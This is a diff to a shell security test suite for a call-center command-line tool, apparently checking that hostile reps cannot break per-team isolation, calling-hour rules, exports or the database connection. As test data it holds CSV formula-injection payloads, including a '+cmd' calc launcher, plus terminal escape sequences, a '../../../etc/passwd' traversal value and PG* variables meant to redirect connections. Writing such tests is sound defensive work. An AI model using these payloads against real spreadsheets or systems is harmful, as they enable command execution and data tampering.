@@ -3,8 +3,11 @@
 # private group, real Unix accounts, and each class of attack run many
 # times. Every class says how many attempts it made and how many got
 # through ("# class: N attempts, S succeeded"); S must be 0.
+# On PostgreSQL (the floor's callq.conf naming a database of the tests'
+# server, behind a socket only callq's group may reach, as a floor's
+# would be) the attacks on what a rep types, configures and sets in the
+# environment run too; those on the SQLite file run on SQLite alone.
 . "$(dirname "$0")/../lib.sh"
-sqlite_only "it attacks the SQLite file, its journals and their modes"
 
 if [ "$(id -u)" -ne 0 ]; then
 	skip "the hostile rep on a shared floor" "it needs root (accounts, a" \
@@ -23,6 +26,38 @@ for u in "$rep1" "$rep2" "$tl" "$adm"; do
 done
 floor_install
 h1=$scratch/home/$rep1
+
+# floor_database: the [database] section of the floor's callq.conf; on
+# SQLite none (the floor is $db, the install's file).
+floor_database() { :; }
+if [ "$driver" = pg ]; then
+	floor_db hostile
+	pgsock=$(echo "$CALLQ_TEST_PG" | sed -n 's/.*host=\([^ ]*\).*/\1/p')
+	pgport=$(echo "$CALLQ_TEST_PG" | sed -n 's/.*port=\([0-9]*\).*/\1/p')
+	gdir=$scratch/floorsock
+	mkdir "$gdir"
+	chown root:"$group" "$gdir"
+	chmod 0710 "$gdir"
+	python3 "$top/tests/pgproxy.py" "$gdir/.s.PGSQL.$pgport" \
+	    "$pgsock/.s.PGSQL.$pgport" &
+	eventually "[ -S '$gdir/.s.PGSQL.$pgport' ]" ||
+	    { echo "the floor's socket did not start"; exit 1; }
+	floor_database() {
+		printf '[database]\npostgresql = host=%s port=%s user=%s dbname=%s\n' \
+		    "$gdir" "$pgport" "$db_role" "$db_role"
+	}
+	floor_database >>"$conf"
+	"$bin" init >/dev/null || { echo "the floor's init failed"; exit 1; }
+fi
+# floor_read SQL: reads the floor as root. On SQLite, the sqlite3 shell
+# keeping -wal and -shm as callq does (it would delete them at exit).
+floor_read() {
+	if [ "$driver" = sqlite ]; then
+		floor_sql "$@"
+	else
+		"$sq" "$db" "$@"
+	fi
+}
 
 "$bin" region add East --country US >/dev/null
 "$bin" region add West --country US >/dev/null
@@ -60,7 +95,7 @@ port2=$(cat "$scratch/port2")
 : >"$scratch/rep.jsonl"
 whsec=whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw
 floor_conf() { # the floor's callq.conf, its text on stdin
-	cat >"$conf"
+	{ cat; floor_database; } >"$conf"
 	chown root:"$group" "$conf"
 	chmod 0640 "$conf"
 }
@@ -142,6 +177,29 @@ ok "a rep cannot point its own phone elsewhere" test $? -eq 77
 as "$rep1" "$bin" --as "$rep2" call "$lead1" >/dev/null 2>&1
 ok "nor dial as another rep" test $? -eq 77
 
+# 12. On PostgreSQL libpq takes its defaults from PG* variables, which
+# are the rep's: none may steer the floor's connection. Each, if taken,
+# would fail the rep's note (a read-only session, no schema to find, a
+# standby wanted, another address); the note must be written, as sent.
+if [ "$driver" = pg ]; then
+	# PGSERVICE's service, in the rep's own service file.
+	printf '[floor]\nhostaddr=127.0.0.1\n' >"$h1/.pg_service.conf"
+	attempts=0
+	through=0
+	for var in "PGOPTIONS=-c default_transaction_read_only=on" \
+	    "PGOPTIONS=-c search_path=nowhere" \
+	    "PGTARGETSESSIONATTRS=read-only" "PGHOSTADDR=127.0.0.1" \
+	    "PGSERVICE=floor"; do
+		attempts=$((attempts + 1))
+		as "$rep1" env "$var" "$bin" note add "$lead1" \
+		    "café $attempts" >"$scratch/o" 2>&1 ||
+		    { through=$((through + 1)); sed 's/^/#   /' "$scratch/o"; }
+	done
+	written=$(floor_read "SELECT count(*) FROM notes WHERE body LIKE 'café %'")
+	tally "the rep's PG* variables steering the floor's connection" \
+	    $attempts $((through + attempts - written))
+fi
+
 # 10. Credentials never hide in addresses: refused at load, never shown,
 # stored or audited.
 attempts=0
@@ -164,11 +222,105 @@ for url in "http://alice:Pw0rd-7731@127.0.0.1:$port/dial" \
 		fi
 	done
 done
-stored=$(floor_sql "SELECT (SELECT count(*) FROM calls WHERE
+stored=$(floor_read "SELECT (SELECT count(*) FROM calls WHERE
     coalesce(error, '') || coalesce(provider_ref, '') LIKE '%Pw0rd%') +
     (SELECT count(*) FROM audit WHERE details LIKE '%Pw0rd%')")
 tally "credentials in a provider address" $attempts $((through + stored))
 floor_webhook
+
+# 6. Another rep's lead reads as a missing one, whatever names it.
+west=$("$bin" lead list --format json | python3 -c \
+    'import json,sys; print([l["id"] for l in json.load(sys.stdin) if l["name"] == "West Bakery"][0])')
+as "$rep2" "$bin" note add "$west" "asked for the owner" >/dev/null
+attempts=0
+through=0
+for cmd in "timeline" "lead show" "lead edit %s --name Mine" \
+    "log %s --disposition Busy" "note add %s hello" "followup add %s tomorrow" \
+    "call" "lead stage %s Won" "assign %s --to $rep1"; do
+	case $cmd in *%s*) ;; *) cmd="$cmd %s" ;; esac
+	# shellcheck disable=SC2059
+	as "$rep1" "$bin" $(printf "$cmd" "$west") >"$scratch/seen" 2>&1
+	seen=$?
+	as "$rep1" "$bin" $(printf "$cmd" 99999) >"$scratch/none" 2>&1
+	none=$?
+	attempts=$((attempts + 1))
+	if [ $seen -ne $none ] || [ "$(sed "s/\b$west\b/N/g" "$scratch/seen")" != \
+	    "$(sed 's/\b99999\b/N/g' "$scratch/none")" ] ||
+	    grep -q "$rep2\|West" "$scratch/seen"; then
+		through=$((through + 1))
+		sed 's/^/#   /' "$scratch/seen"
+	fi
+done
+as "$tl" "$bin" audit list --format csv >"$scratch/o"
+grep -q "$rep2" "$scratch/o" && through=$((through + 1))
+tally "another team's lead named by id, and its audit" $((attempts + 1)) \
+    $through
+
+# 7. Calling hours cannot be edited away.
+attempts=0
+through=0
+for who_zone in "$rep1:Asia/Tokyo" "$rep1:America/New_York" \
+    "$tl:Asia/Tokyo" "$tl:Etc/GMT+12" "$adm:../../../etc/passwd" \
+    "$adm:posix/Asia/Tokyo" "$adm:Mars/Olympus" "$adm:localtime"; do
+	as "${who_zone%%:*}" "$bin" lead edit "$lead1" \
+	    --timezone "${who_zone#*:}" >/dev/null 2>&1 &&
+	    through=$((through + 1))
+	attempts=$((attempts + 1))
+done
+zone=$("$bin" lead show "$lead1" --format json | python3 -c \
+    'import json,sys; print([f["value"] for f in json.load(sys.stdin) if f["field"] == "timezone"][0])')
+[ "$zone" = America/New_York ] || through=$((through + 1))
+tally "a lead's time zone set by someone who may not, or to no zone" \
+    $attempts $through
+
+# 8 and 9. What a rep writes reaches a team lead's spreadsheet and screen
+# as data: controls are refused, formulas are neutralized.
+attempts=0
+through=0
+esc=$(printf '\033')
+for text in "$(printf 'ok\033]0;owned\007')" "$(printf 'ok\033[2J')" \
+    "$(printf 'ok\302\233')" "$(printf 'ok\342\200\256')" \
+    "$(printf 'a\tb')"; do
+	as "$rep1" "$bin" note add "$lead1" "$text" >/dev/null 2>&1 &&
+	    through=$((through + 1))
+	as "$rep1" "$bin" log "$lead1" --disposition Busy --note "$text" \
+	    >/dev/null 2>&1 && through=$((through + 1))
+	as "$rep1" "$bin" lead edit "$lead1" --city "$text" >/dev/null 2>&1 &&
+	    through=$((through + 1))
+	attempts=$((attempts + 3))
+done
+as "$tl" "$bin" timeline "$lead1" | grep -q "$esc" && through=$((through + 1))
+tally "control characters in a rep's free text" $attempts $through
+attempts=0
+through=0
+n=10
+for f in '=HYPERLINK("http://x.example/"&A1)' "+cmd|' /C calc'!A0" \
+    '@SUM(A1)' '-2+3' "$(printf '\tx')" "$(printf '\rx')"; do
+	n=$((n + 1))
+	as "$rep1" "$bin" lead add --name "Bolt $f" --city "$f" \
+	    --phone "+1 212-736-01$n" --region East >/dev/null 2>&1
+	attempts=$((attempts + 1))
+done
+as "$tl" "$bin" lead list --format csv --output "$scratch/home/$tl/leads.csv"
+through=$(python3 -c "
+import csv, sys
+rows = list(csv.DictReader(open(sys.argv[1], newline='')))
+print(sum(1 for r in rows for v in r.values() if v and v[0] in '=+-@\t\r'
+    and not v.lstrip('+-').replace('.', '', 1).isdigit()))" \
+    "$scratch/home/$tl/leads.csv")
+tally "formulas in a team lead's export" $attempts $through
+
+# 11. Search text is text.
+as "$rep1" "$bin" lead list --search % --format csv >"$scratch/o"
+ok "a rep's --search % finds no lead, as none holds a %" \
+    test "$(tail -n +2 "$scratch/o" | wc -l)" -eq 0
+
+# The rest is about the SQLite file itself: its name under --db, its
+# journals, its descriptors, and its write lock.
+if [ "$driver" = pg ]; then
+	finish
+	exit
+fi
 
 # 2. --db is decided by its name before anything is opened: a link
 # swapped between the rep's own database and the floor's never opens
@@ -316,93 +468,6 @@ ok "and names the holder: its pid, command, account and state" grep -q \
     "$scratch/o"
 ok "once it is ended the floor writes again" \
     as "$rep2" "$bin" dnc add "+1 415 555 2000"
-
-# 6. Another rep's lead reads as a missing one, whatever names it.
-west=$("$bin" lead list --format json | python3 -c \
-    'import json,sys; print([l["id"] for l in json.load(sys.stdin) if l["name"] == "West Bakery"][0])')
-as "$rep2" "$bin" note add "$west" "asked for the owner" >/dev/null
-attempts=0
-through=0
-for cmd in "timeline" "lead show" "lead edit %s --name Mine" \
-    "log %s --disposition Busy" "note add %s hello" "followup add %s tomorrow" \
-    "call" "lead stage %s Won" "assign %s --to $rep1"; do
-	case $cmd in *%s*) ;; *) cmd="$cmd %s" ;; esac
-	# shellcheck disable=SC2059
-	as "$rep1" "$bin" $(printf "$cmd" "$west") >"$scratch/seen" 2>&1
-	seen=$?
-	as "$rep1" "$bin" $(printf "$cmd" 99999) >"$scratch/none" 2>&1
-	none=$?
-	attempts=$((attempts + 1))
-	if [ $seen -ne $none ] || [ "$(sed "s/\b$west\b/N/g" "$scratch/seen")" != \
-	    "$(sed 's/\b99999\b/N/g' "$scratch/none")" ] ||
-	    grep -q "$rep2\|West" "$scratch/seen"; then
-		through=$((through + 1))
-		sed 's/^/#   /' "$scratch/seen"
-	fi
-done
-as "$tl" "$bin" audit list --format csv >"$scratch/o"
-grep -q "$rep2" "$scratch/o" && through=$((through + 1))
-tally "another team's lead named by id, and its audit" $((attempts + 1)) \
-    $through
-
-# 7. Calling hours cannot be edited away.
-attempts=0
-through=0
-for who_zone in "$rep1:Asia/Tokyo" "$rep1:America/New_York" \
-    "$tl:Asia/Tokyo" "$tl:Etc/GMT+12" "$adm:../../../etc/passwd" \
-    "$adm:posix/Asia/Tokyo" "$adm:Mars/Olympus" "$adm:localtime"; do
-	as "${who_zone%%:*}" "$bin" lead edit "$lead1" \
-	    --timezone "${who_zone#*:}" >/dev/null 2>&1 &&
-	    through=$((through + 1))
-	attempts=$((attempts + 1))
-done
-zone=$("$bin" lead show "$lead1" --format json | python3 -c \
-    'import json,sys; print([f["value"] for f in json.load(sys.stdin) if f["field"] == "timezone"][0])')
-[ "$zone" = America/New_York ] || through=$((through + 1))
-tally "a lead's time zone set by someone who may not, or to no zone" \
-    $attempts $through
-
-# 8 and 9. What a rep writes reaches a team lead's spreadsheet and screen
-# as data: controls are refused, formulas are neutralized.
-attempts=0
-through=0
-esc=$(printf '\033')
-for text in "$(printf 'ok\033]0;owned\007')" "$(printf 'ok\033[2J')" \
-    "$(printf 'ok\302\233')" "$(printf 'ok\342\200\256')" \
-    "$(printf 'a\tb')"; do
-	as "$rep1" "$bin" note add "$lead1" "$text" >/dev/null 2>&1 &&
-	    through=$((through + 1))
-	as "$rep1" "$bin" log "$lead1" --disposition Busy --note "$text" \
-	    >/dev/null 2>&1 && through=$((through + 1))
-	as "$rep1" "$bin" lead edit "$lead1" --city "$text" >/dev/null 2>&1 &&
-	    through=$((through + 1))
-	attempts=$((attempts + 3))
-done
-as "$tl" "$bin" timeline "$lead1" | grep -q "$esc" && through=$((through + 1))
-tally "control characters in a rep's free text" $attempts $through
-attempts=0
-through=0
-n=10
-for f in '=HYPERLINK("http://x.example/"&A1)' "+cmd|' /C calc'!A0" \
-    '@SUM(A1)' '-2+3' "$(printf '\tx')" "$(printf '\rx')"; do
-	n=$((n + 1))
-	as "$rep1" "$bin" lead add --name "Bolt $f" --city "$f" \
-	    --phone "+1 212-736-01$n" --region East >/dev/null 2>&1
-	attempts=$((attempts + 1))
-done
-as "$tl" "$bin" lead list --format csv --output "$scratch/home/$tl/leads.csv"
-through=$(python3 -c "
-import csv, sys
-rows = list(csv.DictReader(open(sys.argv[1], newline='')))
-print(sum(1 for r in rows for v in r.values() if v and v[0] in '=+-@\t\r'
-    and not v.lstrip('+-').replace('.', '', 1).isdigit()))" \
-    "$scratch/home/$tl/leads.csv")
-tally "formulas in a team lead's export" $attempts $through
-
-# 11. Search text is text.
-as "$rep1" "$bin" lead list --search % --format csv >"$scratch/o"
-ok "a rep's --search % finds no lead, as none holds a %" \
-    test "$(tail -n +2 "$scratch/o" | wc -l)" -eq 0
 
 # 5. The import's phone workers hold no descriptor of the database.
 python3 "$top/tests/bench/gen_leads.py" 150000 >"$scratch/home/$adm/big.csv"
